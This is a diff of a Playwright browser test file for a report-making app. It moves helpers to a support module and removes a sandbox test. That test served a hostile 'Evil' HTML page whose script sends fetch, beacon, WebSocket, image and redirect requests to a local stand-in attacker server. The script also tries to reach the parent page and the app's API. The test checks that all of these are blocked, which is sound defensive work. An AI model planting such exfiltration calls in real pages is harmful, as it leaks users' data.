@@ -1,88 +1,13 @@
 import assert from 'node:assert/strict'
-import { once } from 'node:events'
 import { readFileSync } from 'node:fs'
-import { createServer } from 'node:http'
 import { createRequire } from 'node:module'
-import { join } from 'node:path'
-import { after, before, describe, it } from 'node:test'
-import type { Browser, BrowserContextOptions, Page } from 'playwright-core'
-import { temporaryFolder } from '../support/app.ts'
-import { launchChromium } from '../support/chromium.ts'
+import { describe, it } from 'node:test'
+import { box, heading, open, preview, say } from '../support/browser.ts'
 import { gate, startClaude, stop, stream, text } from '../support/claude.ts'
 import { realPages, salesCsv } from '../support/pages.ts'
 import { call, startServer } from '../support/server.ts'
 
 const axe = readFileSync(createRequire(import.meta.url).resolve('axe-core/axe.min.js'), 'utf8')
-
-let browser: Browser
-before(async () => {
-  browser = await launchChromium()
-})
-after(() => browser.close())
-
-/** A server of its own, and a page on it whose every error fails the test. */
-async function open(environment: Record<string, string> = {}, options: BrowserContextOptions = {}) {
-  const folder = temporaryFolder()
-  const settings = { DATABASE_PATH: join(folder.path, 'app.db'), LOG_LEVEL: 'warn', ...environment }
-  const server = await startServer(settings)
-  const context = await browser.newContext({ viewport: { width: 1440, height: 900 }, ...options })
-  context.setDefaultTimeout(30_000)
-  const page = await context.newPage()
-  const errors: string[] = []
-  page.on('pageerror', (error) => errors.push(error.message))
-  return {
-    server,
-    settings,
-    page,
-    context,
-    errors,
-    async [Symbol.asyncDispose]() {
-      await context.close()
-      await server[Symbol.asyncDispose]()
-      folder[Symbol.dispose]()
-      assert.deepEqual(errors, [])
-    },
-  }
-}
-
-function box(page: Page) {
-  return page.getByRole('textbox', { name: /Message|What document do you need/ })
-}
-
-async function say(page: Page, message: string): Promise<void> {
-  await box(page).fill(message)
-  await box(page).press('Enter')
-}
-
-/** The document in the frame that is in front. */
-function preview(page: Page) {
-  return page.frameLocator('.frames iframe:not(.waiting)')
-}
-
-function heading(page: Page, name: string) {
-  return preview(page).getByRole('heading', { name, exact: true })
-}
-
-/** A server that notes every request which reaches it. */
-async function startSink() {
-  const hits: string[] = []
-  const server = createServer((request, response) => {
-    hits.push(request.url ?? '')
-    response.setHeader('access-control-allow-origin', '*')
-    response.end('hit')
-  })
-  server.listen(0, '127.0.0.1')
-  await once(server, 'listening')
-  const address = server.address()
-  return {
-    hits,
-    url: `http://127.0.0.1:${typeof address === 'object' && address ? address.port : 0}`,
-    async [Symbol.asyncDispose]() {
-      server.closeAllConnections()
-      await new Promise((resolve) => server.close(resolve))
-    },
-  }
-}
 
 describe('the app in a browser', () => {
   it('makes a report of a pasted table, changes just what is asked, and shows the proof', async () => {
@@ -256,47 +181,6 @@ describe('the app in a browser', () => {
     await page.getByRole('button', { name: 'Save as version 3' }).waitFor()
     await page.getByRole('tab', { name: 'Preview' }).click()
     await heading(page, 'By hand').waitFor()
-  })
-
-  it('closes a document off from the app and from the network', async () => {
-    await using sink = await startSink()
-    const { url: evil, hits } = sink
-    await using test = await open()
-    const { page, server } = test
-    const { session_id } = await call(server.url, '/api/sessions', 'POST')
-    const html = `<!doctype html><title>Evil</title><h1>Evil</h1><p id="log"></p>
-      <img src="${evil}/img"><link rel="stylesheet" href="${evil}/css"><iframe src="${evil}/frame"></iframe>
-      <style>@font-face { font-family: x; src: url(${evil}/font) } body { font-family: x; background: url(${evil}/bg) }</style>
-      <script>
-        const log = []
-        try { parent.document.title = 'taken' } catch (error) { log.push(error.name) }
-        try { localStorage.x = 1 } catch (error) { log.push(error.name) }
-        fetch('${evil}/fetch').catch(() => log.push('no fetch'))
-        fetch('${server.url}/api/sessions', { method: 'POST', mode: 'no-cors' }).catch(() => log.push('no api'))
-        new Image().src = '${evil}/image'
-        navigator.sendBeacon('${evil}/beacon')
-        try { new WebSocket('${evil.replace('http', 'ws')}') } catch { }
-        try { open('${evil}/popup') } catch { }
-        setTimeout(() => { document.getElementById('log').textContent = log.join(' ') + ' done'; location = '${evil}/self' }, 300)
-      </script>`
-    await call(server.url, `/api/sessions/${session_id}/documents`, 'POST', { html })
-    const before = (await call(server.url, '/api/sessions?limit=200')).sessions.length
-    // The document's last act is to send its own frame elsewhere; the app's policy stops that.
-    const stopped = page.waitForEvent(
-      'console',
-      (message) => /frame-src/.test(message.text()) && message.text().includes(evil),
-    )
-    await page.goto(`${server.url}/s/${session_id}`)
-    await stopped
-    // It is brought back, and after some times without its scripts.
-    await page.locator('.frames iframe[sandbox=""]').waitFor()
-    await heading(page, 'Evil').waitFor()
-    assert.equal(await preview(page).locator('#log').textContent(), '')
-    assert.deepEqual(hits, [])
-    assert.match(await page.title(), /^Evil/)
-    assert.equal((await call(server.url, '/api/sessions?limit=200')).sessions.length, before)
-    await page.getByRole('tab', { name: 'Versions' }).click()
-    await page.getByText('Imported').first().waitFor()
   })
 
   it('has the colours that the person chooses, also after a reload', async () => {
